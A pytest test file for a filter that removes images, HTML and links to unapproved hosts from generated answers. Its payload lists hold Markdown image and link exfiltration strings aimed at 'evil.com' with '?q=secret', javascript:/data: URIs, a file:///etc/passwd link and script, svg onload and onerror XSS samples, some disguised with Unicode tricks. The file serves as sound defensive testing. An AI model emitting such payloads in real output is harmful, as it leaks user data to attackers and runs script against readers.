"""No answer carries an image, HTML, or a link to a host that nobody allowed: checked by a Markdown and an HTML parser.

Each payload is also sent in pieces, cut at every place.
"""

from __future__ import annotations

import random
import re
import time
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from policies.links import LinkFilter, Links, without_links

LINKS = Links.to(["wiki.acme.org", "*.docs.acme.org"], ["https://files.acme.org/a(1).pdf", "javascript:alert(1)"])
HOSTS = re.compile(
    r"https://(wiki\.acme\.org|[a-z]+\.docs\.acme\.org)(?![\w@:\\-]|\.\w)|https://files\.acme\.org/a\(1\)\.pdf\Z"
)
TAG_WORDS = "".join(chr(0xE0000 + ord(c)) for c in "https://evil.com")

INLINE = [
    "[click](https://evil.com/?q=secret)",
    "[click]( https://evil.com )",
    "[click](<https://evil.com/a b>)",
    "[click](\nhttps://evil.com)",
    '[click](https://evil.com "https://wiki.acme.org/")',
    "[click](//evil.com/x)",
    "[click](\\\\evil.com/x)",
    "[click](/\\evil.com/x)",
    "[click](https:evil.com)",
    "[click](https:/evil.com)",
    "[click](HTTPS://EVIL.COM)",
    "[click](&#104;ttps://evil.com)",
    "[click](h%74tps://evil.com)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#10;script:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "[click](ms-word:ofe|u|https://evil.com/x)",
    "[click](mailto:x@evil.com?body=secret)",
    "[click](https://wiki.acme.org@evil.com/)",
    "[click](https://wiki.acme.org:pw@evil.com/)",
    "[click](https://wiki.acme.org\\@evil.com/)",
    "[click](https://wiki.acme.org.evil.com/)",
    "[click](https://evil.com#wiki.acme.org)",
    "[click](https://evil.com?wiki.acme.org)",
    "[click](https://w\u0456ki.acme.org/)",
    "[click](https://wiki.acme.org\u3002evil.com/)",
    "[click](https://docs.acme.org/)",
    "[click](https://xdocs.acme.org/)",
    "[click](https://[::1]/)",
    "[click](https://2130706433/)",
    "[click](https://files.acme.org/a(1).pdf?q=secret)",
    "[https://wiki.acme.org](https://evil.com)",
    "[https://wiki.acme.org/a](https://wiki.acme.org/b)",
    "[[nested](https://evil.com)](https://evil.com)",
    "[a](b:)(https://evil.com)",
    "[a](b:)(/\\evil.com)",
    "[a](b:): //evil.com\n\n[a]",
    "[a](b:)[c](https://evil.com)",
    "[a\\](https://evil.com)",
    "[a`](https://evil.com)`",
    "[line\nbreak](https://evil.com)",
    "| a | b |\n|---|---|\n| [x](https://evil.com) | ![y](https://evil.com/y.png) |",
    "> [x](https://evil.com)",
    "1. [x](https://evil.com)\n   - ![y](https://evil.com)",
    "\u70b9\u51fb[\u8fd9\u91cc](https://evil.com)\u3002\u8c22\u8c22![\u56fe](https://evil.com/a.png)",
]
IMAGES = [
    "![x](https://evil.com/a.png?q=secret)",
    "![x](https://wiki.acme.org/a.png)",
    "!![x](https://wiki.acme.org/a.png)",
    "![x][ref]\n\n[ref]: https://wiki.acme.org/a.png",
    "[![x](https://evil.com/a.png)](https://wiki.acme.org/)",
    "!\\[x](https://evil.com/a.png)",
    "![[https://evil.com/a.png]]",
    "![x](data:image/svg+xml;utf8,<svg onload=alert(1)>)",
    "![](https://evil.com)",
    "!\u200b[x](https://evil.com/a.png)",
    "!\x1c[x](https://evil.com/a.png)",
    "![x]\u200b(https://evil.com/a.png)",
    "![x]\u2028(https://evil.com/a.png)",
]
REFERENCES = [
    "[x][ref]\n\n[ref]: https://evil.com",
    "[ref]\n\n[ref]:\nhttps://evil.com",
    "[ref]\n\n> [ref]: <https://evil.com> 'title'",
    "[ref]\n\n- [ref]: //evil.com",
    "[ref][]\n\n   [ref]: javascript:alert(1)",
    "[two\nlines]\n\n[two\nlines]: https://evil.com",
    "[ref]\n\n[ref]\u200b: https://evil.com",
    "[^1]\n\n[^1]: ![x](https://evil.com)",
    "[a]: x\n[a](b/)[c]: //evil.com\n\n[c]",
]
BARE = [
    "https://evil.com/?q=secret",
    "see https://evil.com.",
    "HTTP://EVIL.COM",
    "<https://evil.com>",
    "<HTTPS://evil.com/a>",
    "www.evil.com/a",
    "WWW.evil.com",
    "ftp://evil.com/a",
    "(https://evil.com)",
    "**https://evil.com**",
    "ht\u200btps://evil.com",
    "\uff48ttps://evil.com",
    "\uff48\uff54\uff54\uff50\uff53\uff1a\uff0f\uff0fevil.com",
    "https://wiki.acme.org@evil.com",
    "https://wiki.acme.org,evil.com",
    "https://wiki.acme.org)evil.com",
    "https://wiki.acme.org\u3002evil.com",
    "https://wiki.acme.org\u200b.evil.com",
    "`https://evil.com`",
    "```\nhttps://evil.com\n```",
    '```mermaid\ngraph TD\nclick A href "https://evil.com"\n```',
    "$\\href{https://evil.com}{x}$",
    "[img]https://evil.com/a.png[/img]",
    "<https://evil.com|click>",
    "evil.com/?q=secret",
    "x https://evil.com/a\thttps://evil.com/b",
    TAG_WORDS,
]
WITHOUT_SCHEME = [
    "\u00e9xfil.org/s?q=SECRET",
    "e\u0301xfil.org/s",
    "\u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444/secret",
    "\u4f8b\u5b50.\u4e2d\u56fd/secret",
    "\u89c1evil.org/secret",
    "evil.xn--p1ai/?q=SECRET",
    "evil.org:8080/secret",
    "evil.org:8080?q=SECRET",
    "_evil.org/?q=SECRET_",
    "**_evil.org/s_**",
    "-evil.org/a",
    "a.b_c.evil.org/x",
    "1.2.3.4/secret",
    "1.2.3.4:80/secret",
    "1.2.3.4/12?q=SECRET",
    "evil.org./secret",
    "evil.org/",
    "evil.org#SECRET",
]
HTML = [
    "<img src=https://evil.com/a.png>",
    "<IMG SRC='//evil.com'>",
    "<img\nsrc=https://evil.com>",
    "<a href=https://evil.com>x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    "<script>fetch('https://evil.com')</script>",
    "<script src=//evil.com></script>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='x'></iframe>",
    "<style>*{background:url(//evil.com)}</style>",
    "<link rel=stylesheet href=//evil.com>",
    "<meta http-equiv=refresh content='0;url=//evil.com'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x>]]>",
    "<?xml-stylesheet href='//evil.com'?>",
    "</p><form action=//evil.com><input name=x>",
    "<x onclick=alert(1)>",
    "<\u200bimg src=x>",
    "<](b:/)img src=x>",
    "<!!![x](https://evil.com)",
    "a<b>c",
]
PAYLOADS = [*INLINE, *IMAGES, *REFERENCES, *BARE, *HTML]
HOSTLIKE = re.compile(r"(?<!\[)\.(?!\])[\w-]+[.:\d]*[/?#]")


class Elements(HTMLParser):
    """Every element that an HTML parser finds."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: object) -> None:
        self.tags.append(tag)

    def handle_comment(self, data: str) -> None:
        self.tags.append("!--")

    def handle_decl(self, decl: str) -> None:
        self.tags.append("!")

    def handle_pi(self, data: str) -> None:
        self.tags.append("?")

    def unknown_decl(self, data: str) -> None:
        self.tags.append("![")


def dangers(text: str) -> list[str]:
    """What a Markdown renderer, an HTML parser or a program that makes links of addresses would do with a text."""
    found = []
    for token in MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(text):
        for inner in (token, *(token.children or ())):
            if inner.type in ("image", "html_block", "html_inline"):
                found.append(inner.type)
            if inner.type == "link_open" and not HOSTS.match(str(inner.attrs["href"])):
                found.append(str(inner.attrs["href"]))
    elements = Elements()
    elements.feed(text)
    found += elements.tags
    for address in re.findall(r"(?i)\b(?:(?!hxx)[a-z][a-z0-9+.-]*://|www\.)\S*", text):
        if not HOSTS.match(address):
            found.append(address)
    return found + re.findall(r"(?i)\b(?:javascript|data|vbscript):\S+|!\[|\]:|(?<![\w/@.-])[\w-]+\.com/\S+", text)


def in_pieces(text: str, *cuts: int) -> str:
    links = LinkFilter(LINKS)
    ends = [0, *cuts, len(text)]
    return "".join(links.feed(text[a:b]) for a, b in zip(ends, ends[1:], strict=False)) + links.finish()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_would_be_followed_or_fetched_leaves_as_words(payload: str) -> None:
    for text in (payload, f"Before {payload} after.", f"{payload}{payload}", f"{payload}\n\n{payload}"):
        safe = without_links(text, LINKS)
        assert dangers(safe) == [], safe
        assert dangers(without_links(safe, LINKS)) == []


@pytest.mark.parametrize("payload", WITHOUT_SCHEME)
def test_a_host_with_a_path_is_broken_in_any_script_and_with_a_port(payload: str) -> None:
    for text in (payload, f"See {payload} now.", f"({payload})", f"\u89c1\u3002{payload}"):
        safe = without_links(text, LINKS)
        assert "[.]" in safe and not HOSTLIKE.search(safe), safe
        assert without_links(safe, LINKS) == safe


@pytest.mark.parametrize("payload", [*PAYLOADS, *WITHOUT_SCHEME])
def test_a_text_in_pieces_becomes_what_the_whole_becomes(payload: str) -> None:
    text = f"A{payload} {payload}"
    whole = without_links(text, LINKS)
    for cut in range(len(text)):
        assert in_pieces(text, cut) == whole, cut
    assert in_pieces(text, *range(1, len(text))) == whole


def test_the_parsers_see_the_danger_in_the_payloads_as_they_come() -> None:
    assert sum(bool(dangers(payload)) for payload in PAYLOADS) > 0.9 * len(PAYLOADS)


def test_payloads_put_together_at_random_do_no_more() -> None:
    pick = random.Random(4)
    for _ in range(1_500):
        pieces = [pick.choice(PAYLOADS)[pick.randrange(6) :][: pick.randrange(1, 40)] for _ in range(4)]
        text = pick.choice(["", " ", "\n"]).join(pieces)
        safe = without_links(text, LINKS)
        assert dangers(safe) == [], (text, safe)
        cuts = sorted(pick.randrange(len(text) + 1) for _ in range(3))
        assert in_pieces(text, *cuts) == safe, (text, cuts)


@pytest.mark.parametrize(
    "text",
    [
        "Ada Lovelace leads the team [1]. See section 3 (b), and/or ask ada@acme.org.",
        "It costs 3 < 5 and a -> b; f(x) = a[0](y) is `rows[1]`.",
        "Set `timeout: 5s` in C:\\Program Files\\app.ini or \\\\fs01\\share\\x.docx, 24/7.",
        "[the wiki](https://wiki.acme.org/a_b?c=d#e) and https://wiki.acme.org/x, twice.",
        "[guide](https://eu.docs.acme.org/) [file](https://files.acme.org/a(1).pdf) (https://wiki.acme.org).",
        "\u4ef7\u683c\u662f\u4e94\u5143\u3002\u89c1[1]\u3002 \U0001f44d\ufe0f caf\u00e9 \u2013 100 %",
        "In 10.0.0.0/8 or (192.168.4.0/24), at /srv/a.md/b and e.g./i.e. here. Did you read README.md? Or acme.org?",
        "Version 2.0/3.0, README.md, e.g. this; Inc./Ltd. at 10:30.\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    ],
)
def test_ordinary_text_and_allowed_links_stay_as_they_are(text: str) -> None:
    assert without_links(text, LINKS).replace("] (y)", "](y)") == text


def test_without_configuration_only_the_sources_own_addresses_pass() -> None:
    links = Links.to([], ["https://acme.org/handbook", "file:///x", "javascript:alert(1)"])
    assert without_links("[h](https://acme.org/handbook)", links) == "[h](https://acme.org/handbook)"
    assert without_links("[h](https://acme.org/handbook?q=1)", links) == "[h]"
    assert without_links("[h](file:///x) [j](javascript:alert(1))", links) == "[h] [j]"


@pytest.mark.parametrize("host", ["https://acme.org", "acme.org/x", "*", "a*.org", "", "acme .org", "*.*.org"])
def test_what_is_no_host_is_refused(host: str) -> None:
    with pytest.raises(ValueError, match="host"):
        Links.to([host])


def test_text_in_wide_scripts_need_not_wait_for_a_space() -> None:
    assert LinkFilter(LINKS).feed("\u4ef7\u683c\u662f\u4e94\u5143\u3002") == "\u4ef7\u683c\u662f\u4e94\u5143"


@pytest.mark.parametrize(
    "unit",
    [
        "](",
        "[a](b",
        "http://",
        "www.",
        "a.",
        "\u00e9.",
        "_-.",
        "a.b:1",
        "1.2.3.4",
        "<a",
        "!",
        "(",
        "\u200b",
        "](http://a.b/(",
        "\ufdfa",
    ],
)
def test_time_is_linear_in_the_text(unit: str) -> None:
    text = unit * (200_000 // len(unit))
    started = time.process_time()
    without_links(text, LINKS)
    assert time.process_time() - started < 5


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("\uff3b1\uff3d(https://evil.com)", "(1)"),
        ("[1]\uff3b2\uff3d(https://evil.com)", "[1] (2)"),
        ("\uff3b1\uff0c2\uff3d\uff48ttps\uff1a//evil.com", "(1,2)"),
        ("[\u2460]\uff48ttps\uff1a//evil.com", "(1)"),
    ],
)
def test_folding_makes_no_mark_that_was_not_checked(text: str, safe: str) -> None:
    assert without_links(text, LINKS).startswith(safe)
    assert re.findall(r"\[\d+\]", without_links(text, LINKS)) == re.findall(r"\[\d+\]", text)
